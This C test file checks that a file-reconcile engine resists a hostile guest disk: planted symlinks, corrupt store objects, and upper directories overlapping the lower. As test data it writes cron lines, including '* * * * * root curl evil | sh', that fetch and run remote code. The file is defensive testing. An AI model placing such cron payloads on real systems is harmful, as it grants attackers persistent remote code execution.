// SPDX-License-Identifier: GPL-2.0-or-later
/* A guest's instance disk is hostile: symlinks planted in the store, in the upper dir or above
 * them must never make the engine write or remove anything outside (a scratch "Dom0" dir
 * watched with inotify), store objects are used only when their content matches their name,
 * an upper equal to or nested in the lower is refused, and only what a decision needs is
 * hashed. */
#include <sys/inotify.h>

#include "fsio.h"
#include "test-reconcile-fixture.h"
#include "testlib.h"

#include "hash.h"
#include "store.h"
#include "util.h"

/* Watch dir for any change; watch_quiet says whether nothing happened since. */
static int watch(const char *dir)
{
    int fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
    if (fd >= 0 && inotify_add_watch(fd, dir,
                                     IN_CREATE | IN_DELETE | IN_MODIFY | IN_MOVED_FROM |
                                         IN_MOVED_TO | IN_ATTRIB | IN_CLOSE_WRITE) < 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static bool watch_quiet(int fd)
{
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    return n < 0 && e == EAGAIN;
}

/* Number of entries in a dir (-1: cannot be read). */
static int count_entries(const char *dir)
{
    char cmd[256];
    snprintf(cmd, sizeof cmd, "ls -A '%s' 2>/dev/null | wc -l", dir);
    FILE *p = popen(cmd, "r");
    int n = -1;
    if (p) {
        if (fscanf(p, "%d", &n) != 1)
            n = -1;
        pclose(p);
    }
    return n;
}

static const char merged_conf[] = "A\nb\nc\nd\ne\nf\nG\n";

/* Base v1 recorded, the host edits, base v2 recorded (the boot's order). */
static void scenario(struct fx *f, bool record_v2)
{
    struct rc_record_result res;
    fx_write(f->lower, "merge.conf", "a\nb\nc\nd\ne\nf\ng\n");
    fx_write(f->lower, "chmodded", "v1\n");
    fx_write(f->lower, "same", "x\n");
    fx_write(f->lower, "upd", "v1\n");
    if (fx_record(f->lower, f->store, &res) < 0)
        abort();
    fx_tick();
    fx_write(f->upper, "merge.conf", "A\nb\nc\nd\ne\nf\ng\n");
    fx_write(f->upper, "chmodded", "v1\n");
    fx_chmod(f->upper, "chmodded", 0600);
    fx_write(f->upper, "same", "x\n");
    fx_write(f->upper, "upd", "v1\n");
    fx_tick();
    fx_write(f->lower, "merge.conf", "a\nb\nc\nd\ne\nf\nG\n");
    fx_write(f->lower, "chmodded", "v2\n");
    fx_write(f->lower, "upd", "v2\n");
    if (record_v2 && fx_record(f->lower, f->store, &res) < 0)
        abort();
}

/* "objects/ab" of content's hash, relative to the store. */
static void object_dir(const char *content, char out[16])
{
    unsigned char h[32];
    char hex[RC_HASH_HEX];
    rc_hash_buf(content, strlen(content), h);
    rc_hex(h, 32, hex);
    snprintf(out, 16, "objects/%.2s", hex);
}

static void mk_dom0(struct fx *f, char *dom0, size_t n)
{
    snprintf(dom0, n, "%s/dom0", f->root);
    mkdir(dom0, 0755);
    fx_write(dom0, "passwd", "root:x:0:0::/root:/bin/sh\n");
}

TEST(apply_never_writes_through_a_symlinked_objects_subdir)
{
    struct fx f;
    char dom0[128], od[16], p[256];
    fx_init(&f);
    scenario(&f, true);
    mk_dom0(&f, dom0, sizeof dom0);
    object_dir(merged_conf, od);
    fx_path(p, sizeof p, f.store, od);
    rmdir(p); /* would hold no other object of this scenario */
    CHECK_INT(symlink(dom0, p), 0);
    int w = watch(dom0);
    struct rc_report *r = fx_reconcile(f.lower, f.upper, f.store, RC_POLICY_MERGE);
    CHECK(watch_quiet(w));
    CHECK_INT(count_entries(dom0), 1);
    CHECK(r && (r->error || fx_entry(r, "merge.conf")->applied < 0));
    char *c = fx_read(f.upper, "merge.conf");
    CHECK_STR(c, "A\nb\nc\nd\ne\nf\ng\n");
    free(c);
    rc_report_free(r);
    fx_done(&f);
}

TEST(apply_never_writes_through_a_symlinked_store_tmp)
{
    struct fx f;
    char dom0[128], p[256];
    fx_init(&f);
    scenario(&f, true);
    mk_dom0(&f, dom0, sizeof dom0);
    fx_path(p, sizeof p, f.store, "tmp");
    rmdir(p);
    CHECK_INT(symlink(dom0, p), 0);
    int w = watch(dom0);
    struct rc_report *r = fx_reconcile(f.lower, f.upper, f.store, RC_POLICY_MERGE);
    CHECK(watch_quiet(w));
    CHECK_INT(count_entries(dom0), 1);
    CHECK(r && r->error);
    rc_report_free(r);
    fx_done(&f);
}

TEST(record_never_writes_through_a_symlinked_objects_dir)
{
    struct fx f;
    char dom0[128], p[256];
    fx_init(&f);
    mk_dom0(&f, dom0, sizeof dom0);
    mkdir(f.store, 0700);
    fx_path(p, sizeof p, f.store, "objects");
    CHECK_INT(symlink(dom0, p), 0);
    fx_write(f.lower, "cron-line", "* * * * * root /tmp/x\n");
    int w = watch(dom0);
    struct rc_record_result res;
    CHECK(fx_record(f.lower, f.store, &res) < 0);
    CHECK(watch_quiet(w));
    CHECK_INT(count_entries(dom0), 1);
    fx_done(&f);
}

TEST(record_refuses_a_store_that_is_a_symlink)
{
    struct fx f;
    char dom0[128], link[128];
    fx_init(&f);
    mk_dom0(&f, dom0, sizeof dom0);
    snprintf(link, sizeof link, "%s/store-link", f.root);
    CHECK_INT(symlink(dom0, link), 0);
    fx_write(f.lower, "a", "a\n");
    struct rc_record_result res;
    CHECK(fx_record(f.lower, link, &res) < 0);
    CHECK_INT(count_entries(dom0), 1);
    fx_done(&f);
}

TEST(apply_refuses_an_upper_that_is_a_symlink)
{
    struct fx f;
    char dom0[128], link[128];
    fx_init(&f);
    fx_write(f.lower, "passwd", "root:x:0:0::/root:/bin/sh\n");
    mk_dom0(&f, dom0, sizeof dom0); /* holds the same passwd: "redundant" */
    snprintf(link, sizeof link, "%s/upper-link", f.root);
    CHECK_INT(symlink(dom0, link), 0);
    struct rc_report *r = fx_reconcile(f.lower, link, f.store, RC_POLICY_SAFE);
    CHECK(fx_exists(dom0, "passwd"));
    CHECK(r && r->error);
    CHECK(r && r->error_text && strstr(r->error_text, "upper-link"));
    rc_report_free(r);
    fx_done(&f);
}

TEST(apply_refuses_an_upper_below_a_symlinked_dir)
{
    struct fx f;
    char dom0[128], inst[128], link[160], upper[200];
    fx_init(&f);
    fx_write(f.lower, "passwd", "root:x:0:0::/root:/bin/sh\n");
    snprintf(dom0, sizeof dom0, "%s/dom0", f.root);
    mkdir(dom0, 0755);
    fx_write(dom0, "etc/upper/passwd", "root:x:0:0::/root:/bin/sh\n");
    CHECK(fx_exists(dom0, "etc/upper/passwd"));
    snprintf(inst, sizeof inst, "%s/inst", f.root);
    mkdir(inst, 0755);
    snprintf(link, sizeof link, "%s/overlay", inst);
    CHECK_INT(symlink(dom0, link), 0);
    snprintf(upper, sizeof upper, "%s/etc/upper", link);
    struct rc_report *r = fx_reconcile(f.lower, upper, f.store, RC_POLICY_SAFE);
    CHECK(fx_exists(dom0, "etc/upper/passwd"));
    CHECK(r && r->error);
    CHECK(r && r->error_text && strstr(r->error_text, "inst/overlay"));
    rc_report_free(r);
    fx_done(&f);
}

TEST(upper_equal_to_lower_is_refused)
{
    struct fx f;
    fx_init(&f);
    fx_write(f.lower, "passwd", "root\n");
    struct rc_report *r = fx_reconcile(f.lower, f.lower, f.store, RC_POLICY_SAFE);
    CHECK(fx_exists(f.lower, "passwd"));
    CHECK(r && r->error);
    rc_report_free(r);
    fx_done(&f);
}

TEST(upper_nested_in_lower_is_refused)
{
    struct fx f;
    char nested[160];
    fx_init(&f);
    fx_write(f.lower, "sub/passwd", "root\n");
    fx_write(f.lower, "passwd", "root\n");
    snprintf(nested, sizeof nested, "%s/sub", f.lower);
    struct rc_report *r = fx_reconcile(f.lower, nested, f.store, RC_POLICY_REPORT);
    CHECK(r && r->error);
    rc_report_free(r);
    r = fx_reconcile(nested, f.lower, f.store, RC_POLICY_REPORT);
    CHECK(r && r->error);
    rc_report_free(r);
    fx_done(&f);
}

/* Overwrite the object holding content with garbage. */
static void corrupt_object(struct fx *f, const char *content)
{
    unsigned char h[32];
    char name[80], p[256];
    rc_hash_buf(content, strlen(content), h);
    rc_store_object_name(h, name);
    fx_path(p, sizeof p, f->store, name);
    chmod(p, 0644);
    FILE *o = fopen(p, "w");
    if (o) {
        fputs("* * * * * root curl evil | sh\n", o);
        fclose(o);
    }
}

TEST(a_corrupt_object_is_never_written_into_the_upper)
{
    struct fx f;
    fx_init(&f);
    scenario(&f, true);
    corrupt_object(&f, "v2\n"); /* the new base of "chmodded" */
    struct rc_report *r = fx_reconcile(f.lower, f.upper, f.store, RC_POLICY_SAFE);
    char *c = fx_read(f.upper, "chmodded");
    CHECK(c && !strstr(c, "evil"));
    free(c);
    const struct rc_entry *e = fx_entry(r, "chmodded");
    CHECK(e && e->applied <= 0);
    CHECK(r && ((r->error_text && strstr(r->error_text, "objects/")) ||
                (e && e->note && strstr(e->note, "objects/"))));
    rc_report_free(r);
    fx_done(&f);
}

TEST(a_corrupt_merge_base_object_is_an_error_naming_it)
{
    struct fx f;
    fx_init(&f);
    scenario(&f, true);
    corrupt_object(&f, "a\nb\nc\nd\ne\nf\ng\n"); /* merge.conf's merge base */
    struct rc_report *r = fx_reconcile(f.lower, f.upper, f.store, RC_POLICY_REPORT);
    const struct rc_entry *e = fx_entry(r, "merge.conf");
    CHECK(r && ((r->error_text && strstr(r->error_text, "objects/")) ||
                (e && e->note && strstr(e->note, "objects/"))));
    CHECK(!e || e->outcome != RC_MERGED);
    rc_report_free(r);
    fx_done(&f);
}

TEST(host_only_files_are_not_hashed)
{
    struct fx f;
    char p[256];
    fx_init(&f);
    fx_write(f.lower, "other", "base\n");
    fx_path(p, sizeof p, f.upper, "lastlog");
    int fd = open(p, O_WRONLY | O_CREAT, 0644);
    CHECK(fd >= 0 && ftruncate(fd, 64ll << 20) == 0); /* sparse, as lastlog is */
    close(fd);
    fx_write(f.upper, "mine.conf", "host\n");
    struct rc_report *r = fx_reconcile(f.lower, f.upper, NULL, RC_POLICY_REPORT);
    const struct rc_entry *e = fx_entry(r, "lastlog");
    CHECK(e && e->outcome == RC_HOST_ONLY && !e->upper.have_hash);
    e = fx_entry(r, "mine.conf");
    CHECK(e && e->outcome == RC_HOST_ONLY && !e->upper.have_hash);
    rc_report_free(r);
    fx_done(&f);
}

TEST(a_different_size_is_not_hashed)
{
    struct fx f;
    fx_init(&f);
    fx_write(f.lower, "a.conf", "base\n");
    fx_write(f.upper, "a.conf", "the host's longer copy\n");
    fx_write(f.lower, "b.conf", "base\n");
    fx_write(f.upper, "b.conf", "base\n");
    struct rc_report *r = fx_reconcile(f.lower, f.upper, NULL, RC_POLICY_REPORT);
    const struct rc_entry *e = fx_entry(r, "a.conf");
    CHECK(e && e->outcome == RC_UNKNOWN_BASE && !e->upper.have_hash);
    e = fx_entry(r, "b.conf");
    CHECK(e && e->outcome == RC_REDUNDANT && e->upper.have_hash);
    rc_report_free(r);
    fx_done(&f);
}

TEST(a_missing_upper_is_named)
{
    struct fx f;
    char missing[160];
    fx_init(&f);
    snprintf(missing, sizeof missing, "%s/no-such-upper", f.root);
    struct rc_report *r = fx_reconcile(f.lower, missing, NULL, RC_POLICY_REPORT);
    CHECK(r && r->error == -ENOENT);
    CHECK(r && r->error_text && strstr(r->error_text, missing));
    rc_report_free(r);
    fx_done(&f);
}

/* rc_dir_ancestry / rc_dir_within: how upper, lower and store are kept apart. */
TEST(dir_within_sees_the_same_dir_a_parent_and_not_a_sibling)
{
    struct fx f;
    char a[160], b[160];
    fx_init(&f);
    fx_mkdir(f.lower, "x/y/z");
    snprintf(a, sizeof a, "%s/x/y/z", f.lower);
    snprintf(b, sizeof b, "%s/x", f.lower);
    int za = open(a, O_RDONLY | O_DIRECTORY), xb = open(b, O_RDONLY | O_DIRECTORY);
    int up = open(f.upper, O_RDONLY | O_DIRECTORY), root = open("/", O_RDONLY | O_DIRECTORY);
    CHECK_INT(rc_dir_within(za, xb), 1);
    CHECK_INT(rc_dir_within(xb, za), 0);
    CHECK_INT(rc_dir_within(za, za), 1);
    CHECK_INT(rc_dir_within(za, up), 0);
    CHECK_INT(rc_dir_within(up, za), 0);
    CHECK_INT(rc_dir_within(za, root), 1);
    close(za);
    close(xb);
    close(up);
    close(root);
    fx_done(&f);
}

TEST(dir_ancestry_of_a_deep_dir_reaches_the_root)
{
    /* deeper than one hop of the fstatat walk (RC_ANC_HOP, 128 levels) */
    struct fx f;
    fx_init(&f);
    int fd = open(f.lower, O_RDONLY | O_DIRECTORY);
    int top = dup(fd);
    for (int i = 0; i < 300 && fd >= 0; i++) {
        mkdirat(fd, "d", 0755);
        int nfd = openat(fd, "d", O_RDONLY | O_DIRECTORY);
        close(fd);
        fd = nfd;
    }
    CHECK(fd >= 0);
    struct rc_dir_id *ids = NULL;
    size_t n = 0;
    CHECK_INT(rc_dir_ancestry(fd, &ids, &n), 0);
    struct stat lo, rs;
    CHECK(fstat(top, &lo) == 0 && stat("/", &rs) == 0);
    CHECK(n > 300 && ids && ids[n - 1].dev == rs.st_dev && ids[n - 1].ino == rs.st_ino);
    CHECK(n > 300 && ids && ids[300].dev == lo.st_dev && ids[300].ino == lo.st_ino);
    CHECK(rc_dir_id_in(ids, n, &(struct rc_dir_id){lo.st_dev, lo.st_ino}));
    CHECK_INT(rc_dir_within(fd, top), 1);
    CHECK_INT(rc_dir_within(top, fd), 0);
    free(ids);
    close(fd);
    close(top);
    fx_done(&f);
}

int main(void)
{
    return test_main();
}
